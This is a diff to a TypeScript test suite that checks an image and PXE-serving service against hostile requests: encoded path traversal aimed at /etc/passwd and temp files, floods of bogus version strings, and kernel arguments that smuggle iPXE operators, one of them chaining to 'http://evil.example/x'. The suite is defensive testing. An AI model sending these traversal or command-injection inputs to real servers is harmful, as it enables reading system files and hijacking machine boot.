@@ -5,16 +5,17 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import { readdirSync } from 'node:fs'
-import { join } from 'node:path'
+import { tmpdir } from 'node:os'
+import { dirname, join, resolve } from 'node:path'
 import { startEdge, type RunningEdge } from '../helpers/edge.ts'
-import { startUpstream, type Upstream } from '../helpers/release.ts'
+import { sharedUpstream, type Upstream } from '../helpers/release.ts'
 
 let up: Upstream
 let edge: RunningEdge
 let id: string
 
 beforeAll(async () => {
-  up = await startUpstream(['v1.12.0'])
+  up = await sharedUpstream()
   edge = await startEdge(up.env)
   id = ((await (await fetch(`${edge.url}/schematics`, { method: 'POST', body: '{}' })).json()) as { id: string }).id
 }, 180_000)
@@ -24,10 +25,17 @@ afterAll(async () => {
 })
 
 const raw = (path: string, init?: RequestInit) => fetch(`${edge.url}${path}`, init)
+/** A unique name every traversal probe tries to create, so a write anywhere can be found afterwards. */
+const TOKEN = `probe-${process.pid}-${Date.now().toString(36)}`
 
 describe('hostile asset requests', () => {
   test.each([
     ['traversal in the file name', () => `/image/${id}/v1.12.0/..%2F..%2F..%2Fetc%2Fpasswd`],
+    ['traversal to a new file', () => `/image/${id}/v1.12.0/..%2F..%2F..%2F..%2F${TOKEN}.iso`],
+    ['traversal out of the data directory', () => `/image/${id}/v1.12.0/..%2F..%2F..%2F..%2F..%2F..%2Ftmp%2F${TOKEN}-kernel-amd64`],
+    ['dot segments to a new file', () => `/image/${id}/v1.12.0/../../../${TOKEN}-kernel-amd64`],
+    ['a schematic that is a path', () => `/image/..%2F..%2F${TOKEN}/v1.12.0/kernel-amd64`],
+    ['a version that is a path', () => `/image/${id}/..%2F..%2F${TOKEN}/kernel-amd64`],
     ['encoded traversal in the schematic', () => `/image/..%2F..%2Fetc/v1.12.0/kernel-amd64`],
     ['traversal in the version', () => `/image/${id}/..%2F..%2F/kernel-amd64`],
     ['version with build metadata junk', () => `/image/${id}/v1.12.0+%00/kernel-amd64`],
@@ -79,11 +87,67 @@ describe('hostile asset requests', () => {
     }
   }, 60_000)
 
-  test('nothing was written outside the data directory layout', () => {
-    const allowed = new Set(['artifacts', 'assets', 'by-url', 'cache', 'public', 'schematics', 'tmp', 'work'])
+  test('nothing was written outside the data directory layout', async () => {
+    const allowed = new Set(['artifacts', 'assets', 'by-url', 'cache', 'keys', 'oci', 'public', 'schematics', 'tmp', 'work'])
     for (const entry of readdirSync(edge.dataDir)) expect(allowed.has(entry) ? entry : `unexpected ${entry}`).toBe(entry)
     expect(readdirSync(join(edge.dataDir, 'by-url'))).toEqual([id])
-  })
+    // no file or directory named after the probes anywhere a traversal could reach: the data
+    // directory's parents, the temp directory, the working directory
+    const roots = [...new Set([dirname(edge.dataDir), tmpdir(), '/tmp', resolve('.')])]
+    const find = Bun.spawn(['find', ...roots, '-xdev', '-name', `*${TOKEN}*`], { stdout: 'pipe', stderr: 'ignore' })
+    const found = (await new Response(find.stdout).text()).trim()
+    await find.exited
+    expect(found).toBe('')
+  }, 60_000)
+})
+
+describe('bounded per-request state', () => {
+  test('1,000 distinct +meta versions: 400 each, no builder job, caches and memory flat', async () => {
+    const entries = () => edge.ctx.catalog.perVersionEntries
+    const jobs = () => edge.ctx.builder!.manager.counters.misses + edge.ctx.builder!.manager.counters.hits
+    // warm: one real lookup of each kind fills what a legitimate version needs
+    await (await raw(`/version/v1.12.0/extensions/official`)).arrayBuffer()
+    await (await raw(`/image/${id}/v1.12.0/cmdline-metal-amd64`)).arrayBuffer()
+    Bun.gc(true)
+    const [entries0, jobs0, heap0] = [entries(), jobs(), process.memoryUsage().heapUsed]
+    for (let i = 0; i < 1000; i++) {
+      const v = `v1.12.0+meta${i}`
+      for (const path of [`/version/${encodeURIComponent(v)}/extensions/official`, `/image/${id}/${encodeURIComponent(v)}/cmdline-metal-amd64`, `/pxe/${id}/${encodeURIComponent(v)}/metal-amd64`]) {
+        const res = await raw(path)
+        expect(res.status).toBe(400)
+        await res.arrayBuffer()
+      }
+    }
+    Bun.gc(true)
+    expect(entries()).toBe(entries0)
+    expect(jobs()).toBe(jobs0)
+    const grown = process.memoryUsage().heapUsed - heap0
+    console.log(`heap growth after 3,000 hostile version requests: ${(grown / 1e6).toFixed(2)} MB`)
+    expect(grown).toBeLessThan(20e6)
+  }, 120_000)
+})
+
+describe('PXE scripts pass only arguments to the kernel', () => {
+  test('kernel args that are iPXE operators → 400 from the PXE route; the cmdline asset still answers', async () => {
+    for (const args of [['&&', 'chain', 'http://evil.example/x'], ['||', 'shell'], [';', 'reboot'], ['#', 'rest'], ['#comment']]) {
+      const body = JSON.stringify({ customization: { extraKernelArgs: args } })
+      const sid = ((await (await raw('/schematics', { method: 'POST', body })).json()) as { id: string }).id
+      const res = await raw(`/pxe/${sid}/v1.12.0/metal-amd64`)
+      const text = await res.text()
+      expect(res.status).toBe(400)
+      expect(text.trimEnd().split('\n')).toHaveLength(1)
+      expect(text).toContain('iPXE')
+      expect((await raw(`/image/${sid}/v1.12.0/cmdline-metal-amd64`)).status).toBe(200)
+    }
+  }, 60_000)
+
+  test('settings expansion stays allowed', async () => {
+    const body = JSON.stringify({ customization: { extraKernelArgs: ['talos.config=http://10.0.0.1/c?uuid=${uuid}'] } })
+    const sid = ((await (await raw('/schematics', { method: 'POST', body })).json()) as { id: string }).id
+    const res = await raw(`/pxe/${sid}/v1.12.0/metal-amd64`)
+    expect(res.status).toBe(200)
+    expect(await res.text()).toContain(' talos.config=http://10.0.0.1/c?uuid=${uuid}\n')
+  }, 60_000)
 })
 
 describe('internal failures do not reach the client', () => {
